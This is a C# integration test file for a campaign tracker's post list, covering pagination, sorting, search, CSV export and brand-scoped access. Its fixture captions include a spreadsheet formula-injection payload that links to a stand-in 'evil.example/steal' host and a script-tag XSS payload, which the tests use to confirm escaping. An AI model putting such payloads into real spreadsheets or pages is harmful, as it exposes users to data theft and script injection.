using System.Globalization;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;
using CampaignTracker.Tests.Exports;
using CampaignTracker.Web.Data;

namespace CampaignTracker.Tests.Integration;

/// <summary>
/// Issue 18's data: 130 posts of three influencers, built here so that every expected list below is computed from these
/// rows by hand (LINQ over <see cref="Rows"/>), not by the app's own code. Asha (A1) sold MuscleBlaze, Bala (B2) HKVitals,
/// Chitra (C3) nothing.
/// </summary>
public class PostListApp : AppFactory, IAsyncLifetime
{
    public sealed record Row(string Influencer, string Platform, DateOnly Date, string Url, string Caption, long Reach, long Likes, long Comments)
    {
        public long Engagements => Likes + Comments;
        public double? Err => Reach == 0 ? null : (double)Engagements / Reach;
    }

    public const string Formula = "=HYPERLINK(\"http://evil.example/steal\",\"click\")";
    public const string Script = "<script>alert('caption')</script> caught you";
    public static readonly string Long = "A long caption " + string.Concat(Enumerable.Repeat("about protein and more ", 8)) + "END";

    public static readonly IReadOnlyList<Row> Rows = Enumerable.Range(0, 130).Select(i => new Row(
        Influencer: new[] { "A1", "B2", "C3" }[i % 3],
        Platform: i % 4 == 0 ? "YouTube" : "Instagram",
        Date: new DateOnly(2025, 5, 1).AddDays(i % 40),
        Url: $"http://x.example/{i}",
        Caption: i switch { 5 => Formula, 6 => Script, 9 => Long, 10 => "Ends with zz", 11 => "Crème BRÛLÉE shake", _ => $"Post number {i}" },
        Reach: i == 7 ? 0 : 1_000 + i * 37 % 500,
        Likes: i == 8 ? 5_000 : i * 13 % 300,
        Comments: i % 17)).ToList();

    public virtual async Task InitializeAsync()
    {
        var posts = new StringBuilder("influencer_id,platform,date,URL,caption,reach,likes,comments\n");
        foreach (var r in Rows)
            posts.Append(CultureInfo.InvariantCulture, $"{r.Influencer},{r.Platform},{r.Date:yyyy-MM-dd},{r.Url},\"{r.Caption.Replace("\"", "\"\"")}\",{r.Reach},{r.Likes},{r.Comments}\n");
        var files = TestFiles.Write(
            ("influencers.csv", "id,name,category,gender,follower_count,platform\nA1,Asha Rao,Fitness,Female,50000,Instagram\nB2,Bala Iyer,Health,Male,200000,YouTube\nC3,Chitra N,Parenting,Female,9000,TikTok\n"),
            ("payouts.csv", "influencer_id,basis,rate,orders,total_payout\nA1,order,10,2,20\n"),
            ("posts.csv", posts.ToString()),
            ("tracking_data.csv", "source,campaign,influencer_id,user_id,product,brand,date,orders,revenue\n" +
                                  "s,Campaign_1,A1,u1,Whey Protein,MuscleBlaze,2025-05-02,2,1000.00\ns,Campaign_1,B2,u2,Biotin,HKVitals,2025-05-03,1,300.00\n"));
        Assert.Equal(UploadStatus.Succeeded, (await Ingest.FilesAsync(this, files)).Status);
    }

    Task IAsyncLifetime.DisposeAsync() => Task.CompletedTask;
}

/// <summary>Issue 18: every post of the view, a page at a time, sorted and searched; the page, its twin and the CSV agree.</summary>
[Collection(AppCollection.Name)]
public class PostListTests(PostListApp app) : IClassFixture<PostListApp>
{
    static IReadOnlyList<PostListApp.Row> Rows => PostListApp.Rows;

    static async Task<JsonElement> TwinAsync(HttpClient client, string query) =>
        (await client.GetFromJsonAsync<JsonElement>("/api/posts" + query)).GetProperty("posts");

    /// <summary>Every row of the view through the twin, page after page until the pages end.</summary>
    static async Task<List<JsonElement>> AllPagesAsync(HttpClient client, string query)
    {
        var rows = new List<JsonElement>();
        for (var page = 1; ; page++)
        {
            var posts = await TwinAsync(client, query + (query.Contains('?') ? "&" : "?") + $"p={page}");
            Assert.Equal(page, posts.GetProperty("page").GetInt32());
            rows.AddRange(posts.GetProperty("rows").EnumerateArray());
            if (page * posts.GetProperty("pageSize").GetInt32() >= posts.GetProperty("total").GetInt32()) return rows;
        }
    }

    static IEnumerable<string> Urls(IEnumerable<JsonElement> rows) => rows.Select(r => r.GetProperty("url").GetString()!);

    static IEnumerable<long> Ids(IEnumerable<JsonElement> rows) => rows.Select(r => r.GetProperty("id").GetInt64());

    static List<long> PageIds(string html) => Regex.Matches(html, "<tr data-post=\"(\\d+)\"").Select(m => long.Parse(m.Groups[1].Value)).ToList();

    /// <summary>The app's post id of each URL (ties sort by post id).</summary>
    async Task<Dictionary<string, long>> IdsByUrlAsync(HttpClient admin) =>
        (await AllPagesAsync(admin, "")).ToDictionary(r => r.GetProperty("url").GetString()!, r => r.GetProperty("id").GetInt64());

    [Fact]
    public async Task Pagination_covers_every_post_of_the_view_exactly_once()
    {
        var admin = await app.AdminAsync();

        var rows = await AllPagesAsync(admin, "");

        Assert.Equal(3, (int)Math.Ceiling(rows.Count / 50.0));
        Assert.Equal(Rows.Select(r => r.Url).Order(), Urls(rows).Order());   // 130, none twice, none missing
        Assert.Equal(130, (await TwinAsync(admin, "")).GetProperty("total").GetInt32());
        Assert.Equal(30, (await TwinAsync(admin, "?p=3")).GetProperty("rows").GetArrayLength());
        Assert.Equal(3, (await TwinAsync(admin, "?p=99")).GetProperty("page").GetInt32());   // past the end: the last page
    }

    [Theory]
    [InlineData("")]
    [InlineData("?sort=reach&dir=desc")]
    [InlineData("?q=number%201&sort=err")]
    [InlineData("?platform=YouTube&sort=likes&dir=desc")]
    [InlineData("?brand=HKVitals&from=2025-05-03&sort=comments")]
    public async Task The_page_the_twin_and_the_csv_hold_the_same_rows_for_the_same_parameters(string query)
    {
        var admin = await app.AdminAsync();
        var twin = await AllPagesAsync(admin, query);
        var separator = query.Length == 0 ? "?" : "&";

        var csv = await CsvExportTests.DownloadAsync(admin, $"/Posts{query}{separator}handler=Csv&table=all");
        Assert.Equal(Ids(twin), csv.Rows.Select(r => long.Parse(r["post_id"], CultureInfo.InvariantCulture)));
        Assert.Equal(Urls(twin), csv.Rows.Select(r => r["url"]));
        Assert.Equal(twin.Select(r => r.GetProperty("reach").GetInt64()), csv.Rows.Select(r => long.Parse(r["reach"], CultureInfo.InvariantCulture)));
        for (var page = 1; (page - 1) * 50 < Math.Max(1, twin.Count); page++)
        {
            var html = await admin.GetStringAsync($"/Posts{query}{separator}p={page}");
            Assert.Equal(Ids(twin).Skip((page - 1) * 50).Take(50), PageIds(html));
        }
    }

    public static TheoryData<string, bool> Sorts() => new()
    {
        { "date", false }, { "date", true }, { "reach", false }, { "reach", true }, { "likes", true }, { "comments", false },
        { "engagements", true }, { "err", false }, { "err", true },
    };

    [Theory]
    [MemberData(nameof(Sorts))]
    public async Task Each_column_sorts_as_computed_by_hand_ties_by_post_id_and_no_err_last(string sort, bool descending)
    {
        var admin = await app.AdminAsync();
        var ids = await IdsByUrlAsync(admin);
        Func<PostListApp.Row, double?> key = sort switch
        {
            "date" => r => r.Date.DayNumber,
            "reach" => r => r.Reach,
            "likes" => r => r.Likes,
            "comments" => r => r.Comments,
            "engagements" => r => r.Engagements,
            _ => r => r.Err,
        };
        var defined = Rows.Where(r => key(r) is not null);
        var ordered = descending
            ? defined.OrderByDescending(key).ThenByDescending(r => ids[r.Url])
            : defined.OrderBy(key).ThenBy(r => ids[r.Url]);
        var expected = ordered.Concat(Rows.Where(r => key(r) is null)).Select(r => r.Url);

        var listed = await AllPagesAsync(admin, $"?sort={sort}&dir={(descending ? "desc" : "asc")}");

        Assert.Equal(expected, Urls(listed));
        if (sort == "err") Assert.Equal("http://x.example/7", Urls(listed).Last());   // reach 0: ERR undefined, last either way
    }

    [Fact]
    public async Task Without_a_sort_the_newest_posts_come_first()
    {
        var admin = await app.AdminAsync();
        var ids = await IdsByUrlAsync(admin);

        var listed = await AllPagesAsync(admin, "");

        Assert.Equal(Rows.OrderByDescending(r => r.Date).ThenByDescending(r => ids[r.Url]).Select(r => r.Url), Urls(listed));
    }

    [Theory]
    [InlineData("NUMBER 1", "")]              // caption, any case: 1, 10-19, 100-129 but not 10 ("Ends with zz")
    [InlineData("x.example/12", "")]          // URL: 12, 120-129
    [InlineData("chitra", "")]                // influencer name
    [InlineData("c3", "")]                    // influencer id, whole
    [InlineData("protein", "&platform=Instagram")]
    [InlineData("zzhttp", "")]                // "…zz" ends one post, "http" starts the next: no match across posts
    [InlineData("caption\n", "")]             // control characters are left out of a search
    [InlineData("crème brûlée", "")]          // letters beyond ASCII, any case
    public async Task Search_finds_captions_urls_and_influencers_in_any_case(string q, string filters)
    {
        var admin = await app.AdminAsync();
        var search = q.Trim().ToLowerInvariant();
        var names = new Dictionary<string, string> { ["A1"] = "asha rao", ["B2"] = "bala iyer", ["C3"] = "chitra n" };
        var expected = Rows
            .Where(r => r.Caption.Contains(search, StringComparison.OrdinalIgnoreCase) || r.Url.Contains(search, StringComparison.OrdinalIgnoreCase)
                        || names[r.Influencer].Contains(search) || r.Influencer.Equals(search, StringComparison.OrdinalIgnoreCase))
            .Where(r => filters == "" || r.Platform == "Instagram")
            .Select(r => r.Url).Order().ToList();

        var listed = await AllPagesAsync(admin, $"?q={Uri.EscapeDataString(q)}{filters}");

        Assert.Equal(expected, Urls(listed).Order());
        if (q == "zzhttp") Assert.Empty(expected);
        else Assert.NotEmpty(expected);
    }

    [Fact]
    public async Task A_formula_caption_arrives_in_the_csv_as_text()
    {
        var csv = await CsvExportTests.DownloadAsync(await app.AdminAsync(), "/Posts?handler=Csv&table=all&q=evil");

        var caption = Assert.Single(csv.Rows)["caption"];
        Assert.EndsWith(PostListApp.Formula, caption);
        Assert.False(caption.StartsWith('='), $"'{caption}' would run as a formula");
    }

    [Fact]
    public async Task Captions_show_as_text_shortened_with_the_whole_caption_on_hover_and_expand()
    {
        var html = await (await app.AdminAsync()).GetStringAsync("/Posts?q=caption");   // the script caption and the long one

        Assert.DoesNotContain("<script>alert", html);
        Assert.Contains("&lt;script&gt;alert(&#x27;caption&#x27;)&lt;/script&gt; caught you", html);
        Assert.Contains($"<details class=\"post-caption\"><summary title=\"{PostListApp.Long}\">", html);
        Assert.Contains($"</summary>{PostListApp.Long}</details>", html);
        Assert.Matches("<summary[^>]*>A long caption about protein[^<]{40,80}…</summary>", html);
    }

    [Fact]
    public async Task Each_row_links_the_influencer_and_opens_the_url_in_a_new_tab()
    {
        var html = await (await app.AdminAsync()).GetStringAsync("/Posts?q=x.example/42&platform=Instagram");

        var row = Regex.Match(html, "<tr data-post=.*?</tr>", RegexOptions.Singleline).Value;
        Assert.Contains("href=\"/Influencers/Details?platform=Instagram&amp;id=A1\"", row);   // 42 % 3 = 0: Asha; the view's filters kept
        Assert.Contains("<a href=\"http://x.example/42\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">", row);
    }

    [Fact]
    public async Task A_post_with_more_likes_and_comments_than_reach_is_flagged()
    {
        var admin = await app.AdminAsync();
        var flagged = Rows.Where(r => r.Engagements > r.Reach).Select(r => r.Url).Order().ToList();

        var twin = await AllPagesAsync(admin, "");
        var csv = await CsvExportTests.DownloadAsync(admin, "/Posts?handler=Csv&table=all");
        var html = await admin.GetStringAsync("/Posts?q=x.example/8");

        Assert.Equal(["http://x.example/7", "http://x.example/8"], flagged);   // 8: 5,008 on 1,296; 7: reach 0
        Assert.Equal(flagged, Urls(twin.Where(r => r.GetProperty("aboveReach").GetBoolean())).Order());
        Assert.Equal(flagged, csv.Rows.Where(r => r["above_reach"] == "yes").Select(r => r["url"]).Order());
        Assert.Contains("class=\"badge text-bg-warning above-reach\"", html);
    }

    [Fact]
    public async Task A_brand_managers_page_twin_and_csv_hold_only_posts_of_influencers_who_sold_their_brands()
    {
        var hkVitals = await app.BrandManagerAsync($"posts-{Guid.NewGuid():N}@test.local", "HKVitals");
        var bala = Rows.Where(r => r.Influencer == "B2").Select(r => r.Url).Order().ToList();   // Bala sold Biotin; Asha only Whey Protein

        foreach (var query in new[] { "", "?brand=MuscleBlaze", "?sort=reach&q=example" })
        {
            var twin = await AllPagesAsync(hkVitals, query);
            var csv = await CsvExportTests.DownloadAsync(hkVitals, $"/Posts{(query == "" ? "?" : query + "&")}handler=Csv&table=all");
            var html = await hkVitals.GetStringAsync("/Posts" + query);

            var expected = query == "?brand=MuscleBlaze" ? new List<string>() : bala;   // another brand than theirs: nothing
            Assert.Equal(expected, Urls(twin).Order());
            Assert.Equal(expected, csv.Rows.Select(r => r["url"]).Order());
            Assert.All(csv.Rows, r => Assert.Equal("B2", r["influencer_id"]));
            Assert.Equal(Ids(twin).Take(50), PageIds(html));
            Assert.DoesNotContain("id=A1", html);
            Assert.DoesNotContain("id=C3", html);
        }
        // Dates narrow the sales too: no Biotin sale after 3 May, so no post of Bala's is theirs to see in such a view.
        Assert.Equal(0, (await TwinAsync(hkVitals, "?from=2025-05-04")).GetProperty("total").GetInt32());
    }

    [Fact]
    public async Task Unknown_sort_and_direction_fall_back_to_newest_first()
    {
        var admin = await app.AdminAsync();

        var posts = await TwinAsync(admin, "?sort=nonsense&dir=sideways");

        Assert.Equal(("date", "desc"), (posts.GetProperty("sort").GetString(), posts.GetProperty("dir").GetString()));
        Assert.Equal(Ids((await TwinAsync(admin, "")).GetProperty("rows").EnumerateArray()), Ids(posts.GetProperty("rows").EnumerateArray()));
    }
}
